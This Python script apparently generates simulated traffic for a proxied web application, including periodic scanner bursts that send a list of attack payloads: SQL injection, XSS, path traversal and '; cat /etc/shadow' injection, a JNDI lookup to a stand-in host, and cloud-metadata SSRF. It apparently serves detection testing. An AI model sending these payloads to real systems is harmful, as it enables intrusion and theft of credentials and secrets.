#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Visitors of application.py, as the proxy in front of it passes them on: tides, a scanner that
comes and goes, and one that finds what it looks for. Runs until it is ended.

    visitors.py ADDRESS PORT [SEED]
"""

import base64
import http.client
import json
import math
import random
import sys
import threading
import time
import urllib.parse
import uuid

WORKERS = 6
MOST_A_SECOND = 7  # of each worker
TIDE, SCAN = 420, 300  # seconds from one to the next
SCAN_LENGTH = 70
ATTACKS = ("1' OR '1'='1' -- ", "1 UNION SELECT username, password FROM users-- ",
           "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "; cat /etc/shadow",
           "{{7*7}}", "${jndi:ldap://192.0.2.66/a}", "http://169.254.169.254/latest/meta-data/",
           "*)(uid=*))(|(uid=*", "1'; WAITFOR DELAY '0:0:5'--")
PLACES = (("shop.example.com", "GET", "/api/v1/products?search={}", 9),
          ("shop.example.com", "GET", "/api/v1/orders/{number}", 6),
          ("shop.example.com", "POST", "/api/v1/orders", 3),
          ("shop.example.com", "PUT", "/api/v1/carts/{uuid}", 2),
          ("accounts.example.com", "GET", "/v2/accounts/{uuid}", 6),
          ("accounts.example.com", "POST", "/v2/accounts/{uuid}/transfers", 2),
          ("accounts.example.com", "PATCH", "/v2/accounts/{uuid}", 1),
          ("legacy.example.com", "GET", "/customers/{number}/reports", 1),
          ("legacy.example.com", "GET", "/public/download?file={}", 1),
          ("legacy.example.com", "DELETE", "/customers/{number}", 0.3))


def token():
    def part(content):
        return base64.urlsafe_b64encode(json.dumps(content).encode()).decode().rstrip("=")

    claims = {"sub": str(uuid.uuid4()), "exp": int(time.time()) + 900}
    return f"{part({'alg': 'RS256', 'typ': 'JWT'})}.{part(claims)}.{random.randbytes(32).hex()}"


def visit(connection, start):
    since = time.monotonic() - start
    scanning = since % SCAN > SCAN - SCAN_LENGTH and random.random() < 0.5
    host, method, path, _ = random.choices(PLACES, [place[3] for place in PLACES])[0]
    words = random.choice(ATTACKS) if scanning else random.choice(("lamp", "desk", "manual.pdf"))
    path = path.replace("{number}", str(random.randint(1, 9999))).replace("{uuid}", str(uuid.uuid4()))
    path = path.replace("{}", urllib.parse.quote(words))
    headers = {"Host": host, "Accept": "application/json", "User-Agent": "shop-app/4.2",
               "X-Forwarded-For": f"198.51.100.{random.randint(1, 60)}",
               "X-Forwarded-Proto": "http" if host.startswith("legacy") else "https"}
    if scanning:
        headers["X-Forwarded-For"] = f"203.0.113.{random.randint(1, 14)}"
        headers["User-Agent"] = "sqlmap/1.7" if random.random() < 0.3 else "curl/7.88.1"
    if not scanning and random.random() < 0.93:
        headers["Authorization"] = f"Bearer {token()}"
    body = json.dumps({"item": words, "count": 2}) if method in ("POST", "PUT", "PATCH") else None
    if body:
        headers["Content-Type"] = "application/json"
    connection.request(method, path, body, headers)
    connection.getresponse().read()


def work(address, port, start):
    connection = http.client.HTTPConnection(address, port, timeout=30)
    while True:
        try:
            visit(connection, start)
        except OSError:
            connection.close()
        tide = 0.55 + 0.45 * math.sin((time.monotonic() - start) * 2 * math.pi / TIDE)
        time.sleep(random.expovariate(MOST_A_SECOND * max(tide, 0.1)))


def main():
    random.seed(int(sys.argv[3]) if len(sys.argv) > 3 else 1)
    for _ in range(WORKERS):
        threading.Thread(target=work, args=(sys.argv[1], int(sys.argv[2]), time.monotonic()),
                         daemon=True).start()
    threading.Event().wait()


main()
